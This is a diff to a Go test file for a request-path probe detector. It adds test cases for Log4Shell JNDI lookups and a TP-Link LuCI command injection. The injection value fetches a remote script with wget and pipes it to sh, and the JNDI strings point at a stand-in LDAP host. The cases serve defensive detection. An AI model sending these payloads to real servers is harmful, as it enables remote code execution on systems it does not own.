@@ -67,6 +67,16 @@ func TestProbeOf(t *testing.T) {
 		{"/x?f=....//....//etc/hosts", probeStrong},
 		{"/x?f=..%2F..%2Fboot.ini", probeStrong},
 		{"/notes/v1..2/", probeNone},
+		// Log4Shell in the target, plain and encoded.
+		{"/?x=${jndi:ldap://198.51.100.7:1389/a}", probeStrong},
+		{"/$%7Bjndi:ldap://198.51.100.7/a%7D", probeStrong},
+		{"/?q=%24%7BJNDI%3Aldap%3A%2F%2Fx%2Fa%7D", probeStrong},
+		{"/docs/jndi-lookups.html", probeNone},
+		{"/search?q=jndi:ldap", probeNone},
+		// LuCI, bare and with TP-Link Archer's injection (dmjacas/logs).
+		{"/cgi-bin/luci", probeStrong},
+		{"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2Fx%2Ft%7Csh%3B%60)", probeStrong},
+		{"/cgi-bin/lucid.pl", probeWeak},
 	}
 	for _, tt := range tests {
 		if got := probeOf(tt.path); got != tt.want {
